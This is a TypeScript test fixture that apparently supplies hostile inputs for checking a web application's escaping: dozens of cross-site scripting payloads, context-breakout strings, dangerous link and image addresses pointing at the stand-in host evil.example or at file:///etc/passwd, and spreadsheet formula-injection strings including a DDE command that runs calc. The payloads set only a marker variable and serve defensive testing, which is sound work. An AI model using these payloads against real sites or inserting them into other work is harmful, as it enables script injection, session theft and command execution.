/**
 * Texts that would run as script if treated as markup, an address, a style or a program. Each sets `window.__pwned`.
 */
const js = 'window.__pwned=1'
const evil = '//evil.example/x'

export const payloads: readonly string[] = [
  // Elements that run without interaction
  `<script>${js}</script>`,
  `<ScRiPt >${js}</sCrIpT>`,
  `<script src="${evil}.js"></script>`,
  `<script\n>${js}</script\n>`,
  `<script type="module">${js}</script>`,
  `<<script>${js}//<</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror=${js}>`,
  `<img src=x onerror="${js}"//`,
  `<IMG SRC=x OnErRoR=&#119;indow.__pwned=1>`,
  `<img/src="x"/onerror="${js}">`,
  `<img src="${evil}.png">`,
  `<img src="https:${evil}.png">`,
  `<image src=x onerror=${js}>`,
  `<svg onload=${js}>`,
  `<svg/onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:text/javascript,${js}"/></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${js}"><text y=20>链接</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<video><source onerror=${js}></video>`,
  `<video src=x onerror=${js} autoplay></video>`,
  `<audio src=x onerror=${js}>`,
  `<body onload=${js}>`,
  `<input autofocus onfocus=${js}>`,
  `<textarea autofocus onfocus=${js}></textarea>`,
  `<select autofocus onfocus=${js}><option>1</select>`,
  `<details open ontoggle=${js}><summary>点</summary></details>`,
  `<marquee onstart=${js}>滚</marquee>`,
  `<div style="animation-name:x" onanimationstart=${js}>动</div>`,
  `<div onmouseover="${js}" style="position:fixed;inset:0">盖</div>`,
  `<a href="javascript:${js}" autofocus>点我</a>`,
  `<a href="java\tscript:${js}">点我</a>`,
  `<a href="&#106;avascript:${js}">点我</a>`,
  `<form action="javascript:${js}"><button>交</button></form>`,
  `<button formaction="javascript:${js}">交</button>`,
  `<base href="${evil}/">`,
  `<link rel="stylesheet" href="${evil}.css">`,
  `<link rel="import" href="data:text/html,<script>${js}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<meta http-equiv="refresh" content="0;url=https:${evil}">`,
  `<style>@import "${evil}.css";</style>`,
  `<style onload=${js}></style>`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<xss id=x tabindex=1 onfocus=${js}></xss>`,
  // Breaking out of the surrounding context
  `"><script>${js}</script>`,
  `'><img src=x onerror=${js}>`,
  `</script><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `<!--><img src=x onerror=${js}>-->`,
  `<!--<script><!--</script><script>${js}</script>`,
  `" onmouseover="${js}" autofocus onfocus="${js}" x="`,
  `' onfocus='${js}' autofocus='`,
  `\`;${js};//`,
  `';${js};//`,
  `";${js};//`,
  `\\";${js};//`,
  `\u2028${js}\u2029`,
  `\${${js}}`,
  `{{constructor.constructor('${js}')()}}`,
  `{"__html":"<img src=x onerror=${js}>"}`,
  // Addresses and encodings
  `javascript:${js}`,
  `data:text/html,<script>${js}</script>`,
  `//evil.example/%0d%0aSet-Cookie:x=1`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `%3Cscript%3E${js}%3C/script%3E`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `＜script＞${js}＜/script＞`,
  `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  `«<img src=x onerror=${js}>»`,
]

/** Texts that break out of most contexts at once, by maximum length. */
const dense: readonly string[] = [
  `'"></title></script></style></textarea><img src=x onerror=${js}>{{7*7}}<!--`,
  `"></title></script><img src=x onerror=${js}>`,
  '"></script><svg onload=__pwned=1>',
  '"><svg onload=__pwned=1>',
  '"><q/oncut=open()>',
  '</a><xss>',
]

/** The worst text for a field of at most `max` characters. */
export function hostile(max: number): string {
  const text = dense.find(({ length }) => length <= max)
  if (text === undefined) throw new Error(`nothing fits into ${max}`)
  return text
}

/** Addresses that no link may have. */
export const badLinks: readonly string[] = [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  `java\tscript:${js}`,
  `vbscript:${js}`,
  `data:text/html,<script>${js}</script>`,
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/\t/evil.example/x',
  '/ /evil.example/x',
  'https:\\\\evil.example/x',
  `/"onmouseover="${js}" x`,
]

/** Addresses that no image may have: those, and images of other sites, which pages do not load. */
export const badPictures: readonly string[] = [
  ...badLinks,
  'https://evil.example/x.png',
  'http://evil.example/x.png',
  `data:image/svg+xml,<svg onload=${js}>`,
]

/** Texts that a spreadsheet would evaluate as formulas; short enough for a nickname. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("//e")',
]
